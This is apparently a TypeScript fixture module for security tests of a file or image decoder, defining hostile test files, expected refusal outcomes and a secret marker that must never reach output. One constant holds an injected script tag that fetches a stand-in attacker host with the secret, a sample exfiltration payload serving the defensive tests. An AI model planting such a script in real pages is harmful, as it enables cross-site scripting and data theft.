/** A mark in hostile files. The mark must not appear in any output. */
export const SECRET = 'HOSTILE-MARK-7f3a19c4'

/**
 * The expected outcome of a file: refused with a code, or accepted as nothing but its picture. "either" where the
 * decoder may do one or the other.
 */
export type Fate = '915' | '930' | '931' | 'clean' | 'either'

export interface HostileFile {
  readonly name: string
  readonly bytes: Buffer
  readonly fate: Fate
  readonly fileName?: string
  readonly type?: string
}

export const text = (content: string): Buffer => Buffer.from(content, 'latin1')
export const SCRIPT = `<script>fetch('//evil.example/${SECRET}')</script>`
